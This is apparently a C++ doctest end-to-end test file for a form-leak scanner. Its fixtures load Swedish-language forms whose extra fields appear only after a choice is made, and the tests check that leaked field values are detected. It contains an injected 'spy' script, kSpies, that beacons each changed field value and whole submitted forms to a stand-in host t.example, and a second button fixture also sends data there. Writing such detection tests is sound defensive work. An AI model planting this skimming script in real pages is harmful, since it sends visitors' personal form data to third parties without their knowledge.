// Fields that a page shows only when something else is chosen: the built program in a real browser.
#include <doctest/doctest.h>

#include <algorithm>

#include "tests/e2e/visited.h"

using namespace formleak;
using namespace formleak::test;

namespace {

// On each change the field's own value goes out, and at each press of a button all of the form's.
const char* kSpies =
    "<script>addEventListener('change',e=>{new Image().src='https://t.example/c?'+e.target.name+'='+"
    "encodeURIComponent(e.target.value)});addEventListener('click',e=>{if(e.target.type==='submit')"
    "new Image().src='https://t.example/s?'+new URLSearchParams(new FormData(e.target.form))})</script>";

}  // namespace

TEST_CASE("choices: a field that another choice shows is filled, and its form sent with it") {
    static const std::vector<Page> kPages = {
        {"radio",
         "<form action=/s method=post><input type=radio name=via value=a checked onchange=b.hidden=true>"
         "<input type=radio name=via value=b onchange=b.hidden=false><input type=radio name=via value=c "
         "onchange=b.hidden=true><p id=b hidden>Telefon <input name=late type=tel></p><button>Skicka</button>"
         "</form>"},
        {"select",
         "<form action=/s method=post>Namn <input name=namn><select name=typ "
         "onchange='b.hidden=this.value!=2'>"
         "<option value=1>Privat<option value=2>Företag<option value=3>Annat</select><p id=b hidden>"
         "Kontaktperson <input name=late></p><button>Skicka</button></form>"},
        {"tick",
         "<form action=/s method=post>Namn <input name=namn><input type=checkbox name=samma checked "
         "onchange=b.hidden=this.checked><p id=b hidden>Gata <input "
         "name=late></p><button>Skicka</button></form>"},
        {"disabled",
         "<form action=/s method=post>Namn <input name=namn><select name=typ "
         "onchange='b.disabled=this.value!=2'><option value=1>Nej<option value=2>Ring mig<option "
         "value=3>Kanske</select><fieldset id=b disabled>Telefon <input name=late></fieldset>"
         "<button>Skicka</button></form>"},
        {"twice",
         "<form action=/s method=post><select name=typ onchange='a.hidden=this.value!=2'><option "
         "value=1>Privat<option value=2>Företag<option value=3>Annat</select><p id=a hidden><select "
         "name=land "
         "onchange='b.hidden=this.value!=\"no\"'><option value=se>Sverige<option value=no>Norge<option "
         "value=fi>Finland</select></p><p id=b hidden>Orgnr <input "
         "name=late></p><button>Skicka</button></form>"},
        {"inserted",
         "<form action=/s method=post>Namn <input name=namn><select name=typ "
         "onchange='b.innerHTML=this.value==3?"
         "\"Personnummer <input name=late>\":\"\"'><option value=1>Fråga<option value=2>Beröm<option "
         "value=3>Skada</select><p id=b></p><button>Skicka</button></form>"},
        {"whole-form",
         "<select name=typ onchange='f.hidden=this.value!=2'><option value=1>Fråga<option "
         "value=2>Klagomål<option value=3>Beröm</select><form action=/s method=post>Namn <input "
         "name=namn><button>Skicka</button></form><form id=f hidden action=/s method=post>Namn <input "
         "name=late><button>Skicka</button></form>"}};
    for (const Page& page : kPages) {
        CAPTURE(std::string(page.name));
        Site site;
        site.page("/", page_of(std::string(page.html) + kSpies));
        const Scanned visit = verify(site);
        CHECK(is_complete(visit));
        CHECK(seen_leaving(visit.report).contains("late"));
        const auto sent = buttons_of(visit);
        CHECK(std::count(sent.begin(), sent.end(), "Skicka: clicked") >= 2);
    }
}

TEST_CASE("choices: what nothing shows is told of, and what shows nothing is chosen back") {
    Site site;
    site.page("/",
              page_of(std::string("<form action=/s method=post>Namn <input name=namn><select name=typ>"
                                  "<option value=1>Privat<option value=2>Firma<option value=3>Annat"
                                  "</select><p hidden>Orgnr <input name=never></p><p style='position:"
                                  "absolute;left:-9999px'>Url <input name=trap></p><button "
                                  "onclick=\"new Image().src='https://t.example/typ'+this.form.typ.value\">"
                                  "Skicka</button></form>")));
    const Scanned visit = verify(site);
    CHECK(is_complete(visit));
    std::string told;
    for (const Json& item : visit.report["worth_a_look"].items()) told += item["what"].as_text() + "\n";
    CHECK(told.find("1 field of the form was never shown, so that nothing was typed in: never") !=
          std::string::npos);
    CHECK(told.find("trap") == std::string::npos);
    const auto sent = buttons_of(visit);
    CHECK(std::count(sent.begin(), sent.end(), "Skicka: clicked") == 1);
}

TEST_CASE("choices: what is chosen otherwise in vain sends no form, and in a banner nothing is chosen") {
    static const std::vector<Page> kPages = {
        {"all-shown",
         "<form action=/s method=post>Namn <input name=namn><select name=typ "
         "onchange='fetch(\"/chosen?\"+this.value)'><option value=1>Privat<option value=2>Firma<option "
         "value=3>Annat</select><button>Skicka</button></form>"},
        {"banner",
         "<div id=cookie-banner style='position:fixed;bottom:0'>Vi använder kakor (cookies). <input "
         "type=checkbox name=stat onchange='fetch(\"/ticked\")'> Statistik <button>Godkänn alla</button>"
         "<button>Avvisa</button></div><form action=/s method=post>Namn <input name=namn><p hidden>X <input "
         "name=never></p><button>Skicka</button></form>"}};
    Site site;
    const auto visits = visit_all(site, kPages);
    for (const auto& [name, visit] : visits) {
        CAPTURE(name);
        CHECK(visit["complete"].as_bool());
        CHECK(visit["buttons"].items().size() == 1);
    }
    CHECK(site.hits("/ticked") == 0);
}
